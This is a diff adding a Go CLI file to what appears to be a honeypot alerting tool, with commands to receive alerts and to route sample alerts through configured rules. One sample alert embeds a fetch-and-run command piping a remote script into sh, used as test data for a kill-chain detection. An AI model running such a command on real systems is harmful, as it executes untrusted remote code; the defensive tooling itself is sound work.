@@ -0,0 +1,141 @@
+package cli
+
+import (
+	"GradGuard/internal/alert"
+	"GradGuard/internal/config"
+	"GradGuard/internal/sshserver"
+	"fmt"
+	"slices"
+	"strings"
+	"time"
+)
+
+// ReceiveAlerts runs a stand-in for an alert output, http for webhooks,
+// Slack and Teams or smtp for mail, printing every alert it is sent.
+func ReceiveAlerts(network, addr string) bool {
+	green.Printf("  Receiving %s alerts on %s\n\n", network, addr)
+	err := alert.Receive(network, addr, func(from string, msg []byte) {
+		dimmed.Printf("%s ", time.Now().UTC().Format(time.RFC3339))
+		cyan.Printf("%s\n", from)
+		fmt.Println(strings.TrimRight(string(msg), "\r\n"))
+		fmt.Println()
+	})
+	red.Printf("  %v\n", err)
+	return false
+}
+
+// TestAlerts routes made-up alerts through the configured rules and
+// outputs and shows what became of each: one of every kind, or one
+// shaped by --kind, --severity, --signal, --verdict and --ip. Digests
+// are sent straight away.
+func TestAlerts(args []string) bool {
+	samples := []alert.Alert{
+		{Kind: alert.KindDetection, Severity: "critical", Signal: "kill_chain",
+			Details: "download, chmod and execute in sequence", Command: "curl -s http://203.0.113.9/x | sh",
+			Response: "isolate", Techniques: []string{"T1105", "T1059.004"}},
+		{Kind: alert.KindVerdict, Severity: "critical", Verdict: "exploit_attempt",
+			Details: "Peak suspicion 100/100 over 14 commands", Commands: 14, Techniques: []string{"T1105"}},
+		{Kind: alert.KindNewASN, Severity: "info", Details: "No session has come from AS64500 Example Net before"},
+	}
+	if len(args)%2 != 0 {
+		red.Printf("  %s needs a value\n", args[len(args)-1])
+		return false
+	}
+	flags := map[string]string{}
+	for i := 0; i < len(args); i += 2 {
+		switch args[i] {
+		case "--kind", "--severity", "--signal", "--verdict", "--ip":
+			flags[args[i]] = args[i+1]
+		default:
+			red.Printf("  %s: unknown flag\n", args[i])
+			return false
+		}
+	}
+	if len(flags) > 0 {
+		a := samples[0]
+		if k, ok := flags["--kind"]; ok {
+			i := slices.IndexFunc(samples, func(s alert.Alert) bool { return s.Kind == alert.Kind(k) })
+			if i < 0 {
+				red.Printf("  --kind %s: want detection, verdict or new_asn\n", k)
+				return false
+			}
+			a = samples[i]
+		}
+		if sev, ok := flags["--severity"]; ok {
+			if !slices.Contains(alert.Severities, sev) {
+				red.Printf("  --severity %s: want one of %s\n", sev, strings.Join(alert.Severities, ", "))
+				return false
+			}
+			a.Severity = sev
+		}
+		if v, ok := flags["--signal"]; ok {
+			a.Signal = v
+		}
+		if v, ok := flags["--verdict"]; ok {
+			a.Verdict = v
+		}
+		a.IP = flags["--ip"]
+		samples = []alert.Alert{a}
+	}
+
+	cfg := config.Get().Alerts
+	if len(cfg.Rules) == 0 {
+		yellow.Println("  No alert rules configured")
+		return false
+	}
+	sink, err := alert.New(sshserver.AlertOptions(cfg))
+	if err != nil {
+		red.Printf("  %v\n", err)
+		return false
+	}
+	defer sink.Close()
+
+	ok := true
+	fmt.Println()
+	for i, a := range samples {
+		a.Time = time.Now().UTC()
+		a.SessionID = fmt.Sprintf("test-%d", a.Time.UnixNano())
+		if a.IP == "" {
+			a.IP = "198.51.100.7"
+		}
+		if a.ASN == "" {
+			a.ASN, a.Org, a.Country = "AS64500 Example Net", "Example Hosting", "Netherlands"
+		}
+		bold.Printf("  %s %s", a.Kind, a.Severity)
+		dimmed.Printf("  %s%s from %s\n", a.Signal, a.Verdict, a.IP)
+		ok = showDeliveries(sink.Route(a)) && ok
+		if i < len(samples)-1 {
+			fmt.Println()
+		}
+	}
+	if deliveries := sink.Flush(); len(deliveries) > 0 {
+		fmt.Println()
+		bold.Println("  digests")
+		ok = showDeliveries(deliveries) && ok
+	}
+	fmt.Println()
+	return ok
+}
+
+func showDeliveries(deliveries []alert.Delivery) bool {
+	if len(deliveries) == 0 {
+		dimmed.Println("    no rule matched")
+		return true
+	}
+	ok := true
+	for _, d := range deliveries {
+		fmt.Printf("    %-16s ", d.Rule)
+		switch {
+		case d.Held:
+			yellow.Println("held back by dedupe or throttle")
+		case d.Digest:
+			cyan.Println("gathered for the digest")
+		case d.Err != nil:
+			ok = false
+			red.Printf("%s: %v\n", d.Output, d.Err)
+		default:
+			green.Printf("sent to %s\n", d.Output)
+		}
+	}
+	return ok
+}